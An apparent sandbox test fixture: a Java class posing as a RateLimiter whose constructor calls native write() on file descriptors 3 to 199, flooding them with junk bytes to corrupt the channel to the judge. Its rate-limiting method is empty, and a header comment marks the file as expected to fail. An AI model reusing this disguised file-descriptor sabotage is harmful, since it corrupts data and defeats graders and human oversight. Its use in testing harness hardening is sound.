// EXPECT failed: writes noise to every open file of its process, the channel to the judge among them
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.time.Duration;

public final class RateLimiter {
    private static long call(String name, long... arguments) {
        ValueLayout.OfLong number = ValueLayout.JAVA_LONG;
        try {
            var handle =
                    Linker.nativeLinker()
                            .downcallHandle(
                                    Linker.nativeLinker().defaultLookup().findOrThrow(name),
                                    FunctionDescriptor.of(number, number, number, number, number));
            return (long)
                    handle.invokeExact(arguments[0], arguments[1], arguments[2], arguments[3]);
        } catch (Throwable e) {
            return -1;
        }
    }

    public RateLimiter(int maxRequests, Duration period) {
        try (Arena arena = Arena.ofConfined()) {
            MemorySegment noise = arena.allocate(64);
            for (int i = 0; i < 64; i++) {
                noise.set(ValueLayout.JAVA_BYTE, i, (byte) (i * 37 + 11));
            }
            for (int file = 3; file < 200; file++) {
                call("write", file, noise.address(), 64, 0);
            }
        }
    }

    public void acquire() throws InterruptedException {}
}
